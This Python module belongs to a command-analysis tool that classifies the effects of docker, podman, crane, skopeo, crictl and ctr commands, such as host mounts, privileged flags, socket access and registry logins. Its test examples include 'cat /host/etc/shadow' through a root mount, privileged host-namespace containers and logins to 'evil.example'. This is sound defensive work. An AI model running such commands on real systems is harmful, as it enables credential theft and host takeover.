"""Containers and images on this machine: docker and what speaks its language, and tools that only handle images.

A container that is given folders, devices or powers of this machine is as strong as its owner: that is stated.
"""

from __future__ import annotations

from assent.commands.compose import COMPOSE
from assent.commands.config_files import CONTAINERS_LOGIN, kept
from assent.commands.config_files import DOCKER as DOCKER_LOGIN
from assent.commands.inside import inspected, shown_inside
from assent.commands.mounts import composed, power, powers
from assent.commands.nested import does, nested
from assent.commands.program import Program, changes, turns_off
from assent.commands.projects import HERE, packs
from assent.types import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact
    from assent.types import Kind

LIMITS = (
    " --blkio-weight= --blkio-weight-device= --cpu-count= --cpu-percent= --cpu-period= --cpu-quota= --cpu-rt-period="
    " --cpu-rt-runtime= -c,--cpu-shares= --cpus= --cpuset-cpus= --cpuset-mems= --kernel-memory= -m,--memory="
    " --memory-reservation= --memory-swap= --memory-swappiness= --pids-limit= --ulimit= --shm-size="
)
CREATION = (
    "--add-host= --annotation= -a,--attach= --cap-add= --cap-drop= --cgroup-parent= --cgroupns= --cidfile=write"
    " --detach-keys= --device= --device-cgroup-rule= --disable-content-trust --dns= --dns-option= --dns-search="
    " --domainname= --entrypoint= -e,--env= --env-file=read --expose= --gpus= --group-add= --health-cmd="
    " --health-interval= --health-retries= --health-start-interval= --health-start-period= --health-timeout="
    " -h,--hostname= --init -i,--interactive --ip= --ip6= --ipc= --isolation= -l,--label= --label-file=read --link="
    " --link-local-ip= --log-driver= --log-opt= --mac-address= --mount= --name= --network,--net= --network-alias="
    " --no-healthcheck --oom-kill-disable --oom-score-adj= --pid= --platform= --privileged -p,--publish="
    " -P,--publish-all --pull= -q,--quiet --read-only --restart= --rm --rootfs --runtime= --security-opt="
    " --stop-signal="
    " --stop-timeout= --storage-opt= --sysctl= --tmpfs= -t,--tty -u,--user= --userns= --uts= -v,--volume="
    " --volume-driver= --volumes-from= -w,--workdir=" + LIMITS
)
OWN = (
    "--config=unknown -c,--context=unknown -D,--debug -H,--host= -l,--log-level= --tls --tlscacert=read"
    " --tlscert=read --tlskey=read --tlsverify -v,--version"
)
READ = (("note", "containers and images", "docker.read"),)
DOCKERS = ("docker", "nerdctl", "crane")
BUILD = (
    "--add-host= --build-arg= --build-context= --builder= --cache-from= --cgroup-parent= --compress"
    " --disable-content-trust -f,--file= --force-rm --iidfile=write --isolation= --label= --load --metadata-file=write"
    " --network= --no-cache --no-cache-filter= -o,--output= --platform= --progress= --provenance= --pull --push"
    " -q,--quiet --rm --sbom= --secret= --squash -t,--tag= --target= --allow="
) + LIMITS


@turns_off("--pull")
def _creating(args: Args) -> Iterator[Fact]:
    """`run` and `create`: an image, the command inside, and what it gets of this machine."""
    image = args.operands[0].text if args.operands else "a container"
    verb = args.name.rpartition(" ")[2]
    yield args.effect("change", image, f"docker.{verb}")
    if args.text("--pull") != "never":
        for word in args.operands[:1]:
            yield from _registry(args, word, "reach", "docker.pull", "image registry")
    yield args.effect("run", f"{image} (container)", "program")
    yield from shown_inside(args, args.operands[1:])
    yield from powers(args)
    if not args.operands:
        yield args.gap("no image is named")


def _executing(args: Args) -> Iterator[Fact]:
    words = [word.text for word in args.operands[1:]]
    container = args.operands[0].text if args.operands else "a container"
    yield args.effect("change", container, "docker.exec")
    yield args.effect("run", f"{' '.join(words)[:200]} (in container {container})", "program")
    yield from shown_inside(args, args.operands[1:])
    if args.has("--privileged"):
        yield power(args, "--privileged")


@turns_off("-f")
def _building(args: Args) -> Iterator[Fact]:
    """The Dockerfile says what runs; the context folder is read with everything below."""
    yield args.effect("change", "docker images", "docker.build")
    yield args.effect("reach", "image registry", "docker.pull")
    files = args.values("-f") or [_dockerfile(args.operands)]
    for word in files:
        yield from args.file("read", word)
        if word.value == "-":
            yield args.gap("what it runs comes from standard input")
    yield from args.project("docker build", tuple(word.value for word in files if word.value))
    for word in args.operands or (HERE,):  # podman and buildah take the folder they run in
        yield from _context(args, word)
    if args.has("--push"):
        yield args.effect("send", "image registry", "docker.push.publish")
    if any("security" in (word.value or "security") for word in args.values("--allow")):
        yield power(args, "--allow")
    if args.has("-o", "--secret", "--build-context", "--network", "--builder", "--security-opt"):
        yield args.gap("-o, --secret, --build-context, --network and --builder may take or write more than we know")


def _dockerfile(contexts: list[Word]) -> Word:
    """Without `-f` it lies in the context folder."""
    folder = contexts[0].value if contexts else None
    name = "Dockerfile" if not folder or folder == "." or "://" in folder else f"{folder.rstrip('/')}/Dockerfile"
    return Word(name, name)


def _context(args: Args, word: Word) -> Iterator[Fact]:
    if word.value == "-":
        yield args.gap("the build context comes from standard input")
    elif word.value and ("://" in word.value or word.value.startswith(("git@", "github.com/"))):
        yield from args.reach(word.value)
    else:
        yield from packs(args, word)


def _copying(args: Args) -> Iterator[Fact]:
    """`docker cp`: a side with a colon is in a container, the other one is here."""
    yield args.effect("change", "a container", "docker.cp")
    for at, word in enumerate(args.operands):
        value = word.value
        if value is not None and ":" in value and value[0] not in "./":
            continue
        yield from args.file("read" if at == 0 else "write", word, deep=True)


def _removing(args: Args) -> Iterator[Fact]:
    verb = args.name.rpartition(" ")[2]
    hard = ".destroy" if args.has("-f", "-v") else ""
    for word in args.operands:
        yield args.effect("change", word.text, f"docker.{verb}{hard}")


def _registry(args: Args, word: Word, kind: Kind, code: str, otherwise: str = "") -> Iterator[Fact]:
    """The machine an image lies on: what stands before the first slash, if that looks like a name of one."""
    host, slash, _ = (word.value or "").removeprefix("docker://").partition("/")
    if slash and ("." in host or ":" in host or host == "localhost"):
        yield from args.reach(f"https://{host}/", shown=word.text, kind=kind, code=code)
    else:
        yield args.effect(kind, otherwise or word.text, code)


def _login_files(args: Args) -> Iterator[Fact]:
    """docker and its kin keep the passwords of registries in one file."""
    tool = args.name.partition(" ")[0]
    if args.has("--authfile"):
        for word in args.values("--authfile"):
            yield from args.file("write", word)
    else:
        yield from kept(args, "write", *((DOCKER_LOGIN,) if tool in DOCKERS else (CONTAINERS_LOGIN, DOCKER_LOGIN)))


def _logging_in(args: Args) -> Iterator[Fact]:
    yield from _login_files(args)
    for word in args.operands:
        if word.value:
            yield from args.reach(
                f"https://{word.value.partition('/')[0]}/", shown=word.text, kind="send", code="docker.login"
            )
    if not args.operands:
        yield args.effect("send", "image registry", "docker.login")


def _pushing(args: Args) -> Iterator[Fact]:
    for word in args.operands:
        yield from _registry(args, word, "send", "docker.push.publish")


def _fetching_first(args: Args) -> Iterator[Fact]:
    for word in args.operands[:1]:
        yield from _registry(args, word, "reach", "cloud.read", "image registry")


def _pulling(args: Args) -> Iterator[Fact]:
    for word in args.operands:
        yield from _registry(args, word, "reach", "docker.pull")
        yield args.effect("change", "docker images", "docker.pull")


def _importing(args: Args) -> Iterator[Fact]:
    yield args.effect("change", "docker images", "docker.import")
    for word in args.operands[:1]:
        yield from _context(args, word) if word.value and "://" in word.value else args.file("read", word)


def _remote_image(args: Args) -> Iterator[Fact]:
    """skopeo: only `docker://` names an image elsewhere; the other transports name files and daemons."""
    for word in args.operands:
        if word.value is None or not word.value.startswith("docker://"):
            yield args.gap(f"`{word.text}` is not in a registry")


def _change(code: str, options: str = "") -> Program:
    return does("change", "containers and images", f"docker.{code}", options)


def _making_volume(args: Args) -> Iterator[Fact]:
    """A volume may be a folder of this machine under another name: `-o device=/etc -o o=bind`."""
    yield args.effect("change", "containers and images", "docker.create")
    for word in args.values("-o"):
        name, _, value = (word.value or "").partition("=")
        if name == "device" and value.startswith("/"):
            yield from args.file("read", Word(word.text, value), deep=True)
            yield power(args, f"a volume of {value}")
        elif word.value is None:
            yield args.gap(f"an option is not known ({word.why})", blind=True)


def _adding_plugin(args: Args) -> Iterator[Fact]:
    """Plug-ins of the daemon run with its rights."""
    yield args.effect("change", "containers and images", "docker.plugin")
    yield args.effect("reach", "image registry", "docker.pull")
    yield power(args, "a plug-in")


def _serving(args: Args) -> Iterator[Fact]:
    """Services and stacks are containers as well, with folders and powers of the machine."""
    yield args.effect("change", "containers and images", "docker.swarm")
    yield from powers(args)
    for word in args.values("-c"):
        yield from args.file("read", word)
        yield from composed(args, (word.value,)) if word.value else ()


def _chosen_context(args: Args) -> Iterator[Fact]:
    """The daemon that later commands talk to; its keys are kept beside the settings."""
    yield args.effect("change", "containers and images", "docker.context")
    yield from kept(args, "write", DOCKER_LOGIN if args.name.endswith(" use") else "~/.docker/contexts")


LISTING = "-a,--all -f,--filter= --format= -n,--last= -l,--latest --no-trunc -q,--quiet -s,--size --digests --tree"
NAMED = "-f,--format= -s,--size --type="
PRUNING = "-a,--all -f,--force --filter= --volumes --keep-storage="
PS = Program(LISTING, "text*")
LOGS = Program("--details -f,--follow --since= -n,--tail= -t,--timestamps --until=", "text*", does=READ)
READ_COMMANDS = {
    "ps container/ls container/ps container/list images image/ls image/list": PS,
    "logs container/logs": LOGS,
    "inspect container/inspect plugin/inspect": Program(NAMED, "text*", does=READ, more=inspected),
    "image/inspect volume/inspect network/inspect context/inspect": Program(NAMED, "text*", does=READ),
    "version info system/info context/show buildx/version buildx/ls": Program("-f,--format= --client"),
    "stats container/stats": Program("-a,--all --format= --no-stream --no-trunc", "text*"),
    "top container/top port container/port diff container/diff": Program("", "text*", does=READ, style="posix"),
    "history image/history": Program("--format= -H,--human --no-trunc -q,--quiet --platform=", "text*", does=READ),
    "events system/events": Program("-f,--filter= --format= --since= --until=", does=READ),
    "context/ls context/list network/ls network/list volume/ls volume/list plugin/ls": Program(
        "-f,--filter= --format= -q,--quiet --no-trunc --cluster"
    ),
    "system/df": Program("-v,--verbose --format="),
    "buildx/du builder/du buildx/inspect": Program("--filter= --verbose --builder=", "text*"),
    "search": does("reach", "Docker Hub", "docker.search", "-f,--filter= --format= --limit= --no-trunc"),
    "manifest/inspect": does("reach", "image registry", "docker.search", "-v,--verbose --insecure"),
    "wait container/wait": Program("", "text*"),
}
CHANGE_COMMANDS = {
    "run container/run create container/create": Program(
        CREATION + " -d,--detach --sig-proxy", "text*", more=_creating, style="posix"
    ),
    "exec container/exec": Program(
        "-d,--detach --detach-keys= -e,--env= --env-file=read -i,--interactive --privileged -t,--tty -u,--user="
        " -w,--workdir=",
        "text*",
        more=_executing,
        style="posix",
    ),
    "build image/build buildx/build builder/build": Program(BUILD, "text*", more=_building),
    "start container/start": _change("start", "-a,--attach -i,--interactive --detach-keys="),
    "stop restart container/stop container/restart": _change("stop", "-s,--signal= -t,--time,--timeout="),
    "kill container/kill": _change("kill", "-s,--signal="),
    "pause unpause container/pause container/unpause": _change("pause"),
    "rename tag image/tag container/rename": _change("tag"),
    "update container/update": _change("update", "--restart=" + LIMITS),
    "commit container/commit": _change("commit", "-a,--author= -c,--change= -m,--message= -p,--pause"),
    "rm container/rm container/remove": Program("-f,--force -l,--link -v,--volumes", "text*", more=_removing),
    "rmi image/rm image/remove": Program("-f,--force --no-prune", "text*", more=_removing),
    "network/create": _change(
        "create", "-d,--driver= --label= --name= --subnet= --gateway= --internal --attachable --ipv6 --description="
    ),
    "volume/create": Program("-d,--driver= --label= --name= -o,--opt=", "text?", more=_making_volume),
    "plugin/install plugin/enable plugin/upgrade": Program(
        "--alias= --disable --grant-all-permissions --disable-content-trust --timeout=", "text*", more=_adding_plugin
    ),
    "context/create context/use context/update context/rm context/import": Program(
        "--description= --docker= --from= --default-stack-orchestrator= --kubernetes= -f,--force",
        "text*",
        more=_chosen_context,
    ),
    "buildx/create buildx/use": Program(
        "--append --bootstrap --buildkitd-config=read --buildkitd-flags= --config=read --driver= --driver-opt= --leave"
        " --name= --node= --platform= --use --default --global --builder=",
        "text*",
        does=changes("docker.context", "containers and images", "~/.docker/buildx"),
    ),
    "network/connect network/disconnect": _change("network", "--alias= --ip= -f,--force"),
    "volume/rm volume/remove network/rm network/remove": _change("rm.destroy", "-f,--force"),
    "system/reset machine/reset system/prune container/prune image/prune volume/prune network/prune builder/prune"
    " buildx/prune": _change("prune.destroy", PRUNING),
    "pull image/pull": Program("-a,--all-tags --disable-content-trust --platform= -q,--quiet", "text*", more=_pulling),
    "push image/push": Program("-a,--all-tags --disable-content-trust --platform= -q,--quiet", "text*", more=_pushing),
    "login": Program(
        "-u,--username= -p,--password= --password-stdin --authfile= --tls-verify[=] -v,--verbose --get-login",
        "text?",
        more=_logging_in,
    ),
    "logout": Program(
        "-a,--all --authfile=",
        "text?",
        does=(("change", "containers and images", "docker.logout"),),
        more=_login_files,
    ),
    "cp container/cp": Program("-a,--archive -L,--follow-link -q,--quiet", "text text", more=_copying),
    "save image/save": Program("-o,--output=write --platform=", "text*", does=READ),
    "export container/export": Program("-o,--output=write", "text*", does=READ),
    "load image/load": Program(
        "-i,--input=read -q,--quiet --platform=", does=(("change", "docker images", "docker.load"),)
    ),
    "import image/import": Program("-c,--change= -m,--message= --platform=", "text*", more=_importing),
    "swarm/leave": _change("swarm.destroy", "-f,--force"),
    "swarm/init swarm/join service/scale": _change("swarm"),
    "service/create service/update": Program(
        "--mount= --cap-add= --name= --replicas= -e,--env= -p,--publish= --network= -d,--detach[=] -q,--quiet"
        " --mount-add= --image= --force --mode= --constraint= --with-registry-auth -u,--user= -w,--workdir=",
        "text*",
        more=_serving,
        style="posix",
    ),
    "stack/deploy": Program(
        "-c,--compose-file= -d,--detach[=] --prune -q,--quiet --resolve-image= --with-registry-auth",
        "text",
        more=_serving,
    ),
    "swarm/update": _change(
        "swarm", "--cert-expiry= --dispatcher-heartbeat= --max-snapshots= --snapshot-interval= --task-history-limit="
    ),
    "service/rm stack/rm": _change("swarm.destroy"),
    "service/ls service/ps stack/ls stack/ps node/ls": Program(
        "-f,--filter= --format= -q,--quiet --no-trunc --no-resolve"
    ),
}


def _daemon(args: Args) -> Iterator[Fact]:
    """Another daemon than usual, through a socket of this machine or elsewhere."""
    for word in args.values("-H"):
        if word.value is not None and word.value.startswith(("unix:", "/")):
            yield from args.file("write", Word(word.text, f"/{word.value.removeprefix('unix:').lstrip('/')}"))
        else:
            yield from args.act("unknown", word)


DOCKER = Program(
    OWN, commands=nested({**READ_COMMANDS, **CHANGE_COMMANDS}) | {"compose": COMPOSE}, more=_daemon, style="bare"
)


def _endpoints(args: Args) -> Iterator[Fact]:
    """crictl talks to a socket of this machine, unless an address says otherwise."""
    for word in args.values("-r", "-i"):
        if word.value is None or not word.value.startswith(("unix:", "npipe:", "/")):
            yield from args.act("host", Word(word.text, word.value and word.value.rpartition("://")[2], word.why))


REGISTRY = (("reach", "image registry", "cloud.read"),)
IMAGE_CHANGE = (("send", "image registry", "docker.push.publish"),)
LOGINS = {
    "login": Program(
        "-u,--username= -p,--password= --password-stdin --authfile= --tls-verify[=] -v,--verbose --get-login",
        "text?",
        more=_logging_in,
    ),
    "logout": Program("-a,--all --authfile=", "text?", more=_login_files),
}
SKOPEO = {
    **LOGINS,
    "inspect list-tags": Program(
        "--config --raw -f,--format= --no-tags -n --override-arch= --override-os=",
        "text",
        does=REGISTRY,
        more=_remote_image,
    ),
    "delete": Program("", "text", does=(("send", "image registry", "docker.push.destroy"),)),
}
CRANE = {
    **{f"auth/{name}": program for name, program in LOGINS.items()},
    "ls manifest config digest catalog validate": Program(
        "--platform= --full-ref --tarball=read --remote=", "text*", does=REGISTRY
    ),
    "copy cp tag": Program("--platform= -a,--all-tags", "text*", does=IMAGE_CHANGE),
    "push": Program("--index", "tree text", does=IMAGE_CHANGE),
    "mutate": Program(
        "-a,--annotation= --cmd= --entrypoint= -e,--env= -l,--label= -o,--output=write -t,--tag= -u,--user=",
        "text",
        does=IMAGE_CHANGE,
    ),
    "registry/serve": does("change", "an image registry", "net.listen", "--address= --disk=into", ""),
    "delete": Program("", "text", does=(("send", "image registry", "docker.push.destroy"),)),
    "pull": Program("--format= --platform=", "text write", more=_fetching_first),
    "version": Program(),
}
BUILDAH = {
    **LOGINS,
    "images containers": Program(
        "-a,--all --digests --format= -f,--filter= -n,--noheading --no-trunc -q,--quiet --json"
    ),
    "inspect": Program("-f,--format= -t,--type=", "text*", does=READ, more=inspected),
    "version info": Program("--json"),
    "pull from": _change("pull", "-q,--quiet --name="),
    "tag commit": _change("commit"),
    "rm rmi": _change("rm.destroy", "-a,--all -f,--force -p,--prune"),
    "push": Program("", "text*", does=IMAGE_CHANGE),
}
CRICTL = {
    "ps pods images img": Program(
        "-a,--all -q,--quiet -o,--output= --name= --state= --namespace= -l,--latest --no-trunc -v", "text*"
    ),
    "inspecti": Program("-o,--output= -q,--quiet --template=", "text*", does=READ),
    "inspect inspectp": Program("-o,--output= -q,--quiet --template=", "text*", does=READ, more=inspected),
    "logs": Program("-f,--follow --tail= --since= -t,--timestamps -p,--previous", "text*", does=READ),
    "info version stats statsp imagefsinfo": Program("-o,--output= -a,--all"),
    "stop stopp start": _change("stop", "-t,--timeout="),
    "rm rmi rmp": _change("rm.destroy", "-a,--all -f,--force -q,--prune"),
    "pull": Program("", "text*", more=_pulling),
}
CTR = {
    "version": Program(),
    "containers/ls containers/list images/ls images/list tasks/ls tasks/list namespaces/ls content/ls"
    " snapshots/ls c/ls i/ls t/ls": Program("-q,--quiet", "text*"),
    "containers/info c/info": Program("", "text*", does=READ, more=inspected),
    "containers/rm c/rm images/rm i/rm tasks/kill t/kill tasks/rm t/rm": _change(
        "rm.destroy", "-f,--force -s,--signal="
    ),
    "images/pull i/pull": Program("--platform=", "text*", more=_pulling),
    "run containers/create c/create": Program(
        "--privileged --rm -t,--tty -d,--detach --mount= --net-host --env= --cap-add= --device= --pid-file=write"
        " --rootfs --cwd= --user= --snapshotter= --runtime=",
        "text*",
        more=_creating,
        style="posix",
    ),
}
CTR_OPTIONS = "-n,--namespace= -a,--address= --debug --timeout="

PROGRAMS = {
    "docker": DOCKER,
    "podman": DOCKER,
    "nerdctl": DOCKER,
    "skopeo": Program("--debug", commands=nested(SKOPEO), style="bare"),
    "crane": Program("-v,--verbose --insecure --platform=", commands=nested(CRANE), style="bare"),
    "buildah": Program("--log-level=", commands=nested(BUILDAH), style="bare"),
    "crictl": Program(
        "-D,--debug -r,--runtime-endpoint= -i,--image-endpoint= -t,--timeout=",
        commands=nested(CRICTL),
        more=_endpoints,
        style="bare",
    ),
    "ctr": Program(CTR_OPTIONS, commands=nested(CTR), style="bare"),
}

EXAMPLES = {
    "docker login evil.example": "write ~/.docker/config.json | send evil.example #docker.login",
    "crane pull evil.example/x a": "write a | reach evil.example/x #cloud.read",
    "crane validate --remote x": "reach image registry #cloud.read",
    "crane mutate --help": "note crane mutate",
    "crane mutate -l a=b x": "send image registry #docker.push.publish",
    "crane registry serve --disk docs": "write docs/** | change an image registry #net.listen",
    "docker swarm update --cert-expiry 1h": "change containers and images #docker.swarm",
    "docker pull evil.example/x:1": "reach evil.example/x:1 #docker.pull | change docker images #docker.pull",
    "docker push registry.example:5000/x": "send registry.example:5000/x #docker.push.publish",
    "docker run evil.example/x": "change evil.example/x #docker.run | reach evil.example/x #docker.pull"
    " | run evil.example/x (container) #program",
    "podman push x": "send x #docker.push.publish",
    "docker ps -a --format '{{.Names}}'": "note docker ps",
    "docker images": "note docker images",
    "docker network ls": "note docker network ls",
    "docker container ls -q": "note docker container ls",
    "docker logs --tail 50 web": "note containers and images #docker.read",
    "docker inspect web": "note containers and images #docker.read | note the environment inside #environment.inside",
    "docker inspect -f '{{.State.Status}}' web": "note containers and images #docker.read",
    "docker inspect --format '{{json .Config}}' web": "note containers and images #docker.read"
    " | note the environment inside #environment.inside",
    "docker network inspect net": "note containers and images #docker.read",
    "docker exec web env": "change web #docker.exec | run env (in container web) #program"
    " | note the environment inside #environment.inside",
    "docker --context other ps": "note docker ps | gap docker: `other` is not understood",
    "docker search nginx": "reach Docker Hub #docker.search",
    "docker run --rm -it python:3.11 python -c 'print(1)'": "change python:3.11 #docker.run"
    " | reach image registry #docker.pull | run python:3.11 (container) #program",
    "docker run -v /:/host alpine cat /host/etc/shadow": "change alpine #docker.run"
    " | reach image registry #docker.pull | run alpine (container) #program | read //** | write //** #mounted"
    " | maybe read /host/etc/shadow | gap docker run: the container may do anything with the folder it is given",
    "docker run -v /etc:/x:ro alpine ls": "change alpine #docker.run | reach image registry #docker.pull"
    " | run alpine (container) #program | read /etc/**",
    "docker run -v data:/var/lib/x --pull never db": "change db #docker.run | run db (container) #program",
    "docker run --mount type=bind,source=/srv,target=/srv,readonly alpine": "change alpine #docker.run"
    " | reach image registry #docker.pull | run alpine (container) #program | read /srv/**",
    "docker run -v /var/run/docker.sock:/var/run/docker.sock:ro x": "change x #docker.run | reach image registry"
    " #docker.pull | run x (container) #program | read /var/run/docker.sock/** | change this machine, by the"
    " socket /var/run/docker.sock #privilege",
    "docker run --privileged --pid=host --network host alpine sh": "change alpine #docker.run | reach image registry"
    " #docker.pull | run alpine (container) #program | change this machine, by --privileged #privilege | change"
    " this machine, by --pid #privilege | gap docker run: --pid shares something of this machine or another"
    " container | gap docker run: --network shares something of this machine or another container",
    'docker run -v "$X:/y" alpine': "change alpine #docker.run | reach image registry #docker.pull"
    " | run alpine (container) #program | blind docker run: reads a path that is not known (variable X)"
    " | blind docker run: writes a path that is not known (variable X)"
    " | gap docker run: the container may do anything with the folder it is given",
    "docker exec -it web bash -c 'ls -la'": "change web #docker.exec"
    " | run bash -c 'ls -la' (in container web) #program",
    "docker build -t app:latest .": "change docker images #docker.build | reach image registry #docker.pull"
    " | read Dockerfile | run docker build #project | read ./**",
    "docker build docs": "change docker images #docker.build | reach image registry #docker.pull"
    " | read docs/Dockerfile | run docker build #project | read docs/**",
    "docker build -f docker/Dockerfile --push https://github.com/x/y.git": "change docker images #docker.build"
    " | reach image registry #docker.pull | read docker/Dockerfile | run docker build #project"
    " | reach https://github.com/x/y.git | send image registry #docker.push.publish",
    "docker build - < a": "read a #redirect | change docker images #docker.build | reach image registry #docker.pull"
    " | read -/Dockerfile | run docker build #project"
    " | gap docker build: the build context comes from standard input",
    "docker cp web:/etc/passwd a": "change a container #docker.cp | write a/**",
    "docker cp src web:/app": "change a container #docker.cp | read src/**",
    "docker rm web": "change web #docker.rm",
    "docker rm -f web": "change web #docker.rm.destroy",
    "docker rmi -f x": "change x #docker.rmi.destroy",
    "docker system prune -af": "change containers and images #docker.prune.destroy",
    "podman system reset -f": "change containers and images #docker.prune.destroy",
    "docker volume rm data": "change containers and images #docker.rm.destroy",
    "docker pull nginx": "reach nginx #docker.pull | change docker images #docker.pull",
    "docker push me/app": "send me/app #docker.push.publish",
    "docker login -u x": "write ~/.docker/config.json | send image registry #docker.login",
    "docker save -o a app": "write a | note containers and images #docker.read",
    "docker load -i a": "read a | change docker images #docker.load",
    "docker import a x": "change docker images #docker.import | read a",
    "docker -H tcp://192.0.2.4 ps": "note docker ps | maybe reach tcp://192.0.2.4"
    " | gap docker: `tcp://192.0.2.4` is not understood",
    "docker frobnicate": "run docker frobnicate #program | gap docker: subcommand frobnicate is not known",
    "docker compose down -v": "change containers of the project #docker.compose.down.destroy",
    "docker stop $(docker ps -q)": "note docker ps | change containers and images #docker.stop"
    " | blind docker stop: a word is not known (output of a command)",
    "podman images": "note podman images",
    "podman run -v ./src:/src alpine ls": "change alpine #docker.run | reach image registry #docker.pull"
    " | run alpine (container) #program | read ./src/** | write ./src/** #mounted"
    " | gap podman run: the container may do anything with the folder it is given",
    "nerdctl ps": "note nerdctl ps",
    "skopeo inspect docker://nginx": "reach image registry #cloud.read",
    "skopeo inspect dir:docs": "reach image registry #cloud.read | gap skopeo inspect: `dir:docs` is not in a registry",
    "crane ls ubuntu": "reach image registry #cloud.read",
    "crane pull ubuntu a": "write a | reach image registry #cloud.read",
    "buildah images": "note buildah images",
    "crictl ps -a": "note crictl ps",
    "crictl -r unix:///run/containerd/containerd.sock ps": "note crictl ps",
    "crictl -r tcp://a.example:3735 ps": "reach a.example:3735 | note crictl ps",
    "ctr -n k8s.io images ls": "note ctr images ls",
}
